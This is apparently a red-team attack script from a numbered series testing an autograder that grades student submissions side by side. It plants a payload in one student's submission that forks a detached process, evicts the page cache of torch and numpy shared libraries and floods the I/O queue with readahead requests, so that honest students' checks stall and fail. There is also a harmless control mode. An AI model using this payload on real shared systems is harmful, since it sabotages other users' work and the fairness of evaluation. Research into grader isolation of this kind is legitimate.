"""a05: turn a01's page locks into lost checks of the honest students graded beside mallory (--workers 2).
Mallory's first cell forks a hog that evicts every unmapped page of torch's shared libraries (torch/lib/*.so,
the code an honest check faults in when it first runs an op the template's import did not touch) and queues one
readahead bio per page in mallory's throttle queue (1,000/s): ~250k pages, ~250 s deep. Pages dispatched are
evicted and queued again at the tail, for HOG_S seconds. An honest kernel or check child that faults such a page
waits until it is dispatched. Usage: a05_throttle_lock_torch_libs.py attack|control"""
import os, sys, time, threading, random, json
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *

MODE = sys.argv[1] if len(sys.argv) > 1 else "attack"
HOG_S = int(os.environ.get("HOG_S", "400"))
PAYLOAD = r'''
import os as _os
if _os.fork() == 0:
    import sys, time
    try:
        _os.setsid()
    except OSError:
        pass
    _t0 = time.time()
    _sp = [p for p in sys.path if p.endswith("site-packages")][0]
    _files = []
    for _d in [_os.path.join(_sp, "torch", "lib"), _os.path.join(_sp, "numpy.libs"), _os.path.join(_sp, "numpy", "core"), _os.path.join(_sp, "numpy", "_core")]:
        if not _os.path.isdir(_d):
            continue
        for _f in sorted(_os.listdir(_d)):
            _p = _os.path.join(_d, _f)
            if ".so" in _f and _os.path.isfile(_p) and not _os.path.islink(_p):
                _files.append((_p, _os.path.getsize(_p)))
    _n = 0
    while time.time() - _t0 < __HOG_S__:
        for _p, _sz in _files:
            _fd = _os.open(_p, _os.O_RDONLY)
            _os.posix_fadvise(_fd, 0, 0, _os.POSIX_FADV_DONTNEED)
            for _off in range(0, _sz, 4096):
                _os.posix_fadvise(_fd, _off, 4096, _os.POSIX_FADV_WILLNEED)
                _n += 1
            _os.close(_fd)
        time.sleep(5)
    _os._exit(0)
'''.replace("__HOG_S__", str(HOG_S))
if MODE == "control":
    PAYLOAD = "import os as _os\nif _os.fork() == 0:\n    import time; time.sleep(%d); _os._exit(0)" % HOG_S

course = make_course("a05" + MODE)
hand_in(course, "aaron", honest())
hand_in(course, "mallory", hostile(prepend={"training_memory": PAYLOAD}))
for s in ("xena", "yuri", "zoe"):
    hand_in(course, s, honest())
p, dt = grade(course, extra=("--workers", "2"))
sc = scores(course)
leak_scan(course)
